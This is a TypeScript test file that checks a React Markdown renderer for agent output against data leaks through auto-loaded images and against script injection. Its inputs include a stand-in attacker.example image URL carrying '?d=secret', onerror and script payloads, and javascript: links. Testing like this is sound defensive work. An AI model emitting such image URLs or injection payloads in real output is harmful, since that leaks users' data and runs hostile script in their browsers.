import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { MarkdownText } from "../../app/components/streaming-markdown.tsx";

const render = (source: string) => renderToStaticMarkup(createElement(MarkdownText, { source }));

test("a Markdown image in agent output is a link to it, never an <img>", () => {
  const html = render("See ![chart](https://attacker.example/leak.png?d=secret) here");
  expect(html).not.toContain("<img");
  expect(html).toContain(
    '<a href="https://attacker.example/leak.png?d=secret" class="image-link" title="Not loaded automatically: https://attacker.example/leak.png?d=secret" target="_blank" rel="noopener noreferrer">Image: chart (attacker.example)</a>',
  );
});

test("reference-style, protocol-relative, relative and titled images are links too", () => {
  const html = render(
    '[1]: https://attacker.example/ref.png\n![ref][1] ![](//attacker.example/p.png) ![rel](/api/x.png "t")',
  );
  expect(html).not.toContain("<img");
  expect(html).toContain('href="https://attacker.example/ref.png" class="image-link"');
  expect(html).toContain(">Image: ref (attacker.example)</a>");
  expect(html).toContain('href="//attacker.example/p.png" class="image-link"');
  expect(html).toContain(">Image (attacker.example)</a>");
  expect(html).toContain('href="/api/x.png" class="image-link"');
});

test("an image the sanitiser left without a URL, or one inside a link, is a label, not a second link", () => {
  const html = render(
    "![d](data:image/png;base64,AAAA) ![j](javascript:alert(1)) [![in](https://attacker.example/i.png)](https://example.com)",
  );
  expect(html).not.toContain("<img");
  expect(html).not.toContain("data:");
  expect(html).not.toContain("javascript:");
  expect(html).toContain('<span class="image-link">Image: d (not loaded)</span>');
  expect(html).toContain('<span class="image-link">Image: j (not loaded)</span>');
  expect(html).toContain(
    '<a href="https://example.com" target="_blank" rel="noopener noreferrer"><span class="image-link">Image: in (attacker.example)</span></a>',
  );
});

test("raw HTML images, handlers, scripts, styles and javascript: links render nothing active", () => {
  const html = render(
    [
      '<img src="https://attacker.example/raw.png" srcset="https://attacker.example/s.png 2x" onerror="alert(1)">',
      '<div style="background:url(https://attacker.example/css.png)">x</div>',
      '<script>alert(1)</script><iframe src="https://attacker.example/f"></iframe>',
      "",
      '[click](javascript:alert(1)) <a href="javascript:alert(2)">raw</a>',
    ].join("\n"),
  );
  for (const active of [
    "<img",
    "<script",
    "<iframe",
    "style=",
    "onerror",
    "javascript:",
    "attacker.example",
  ]) {
    expect(html).not.toContain(active);
  }
});
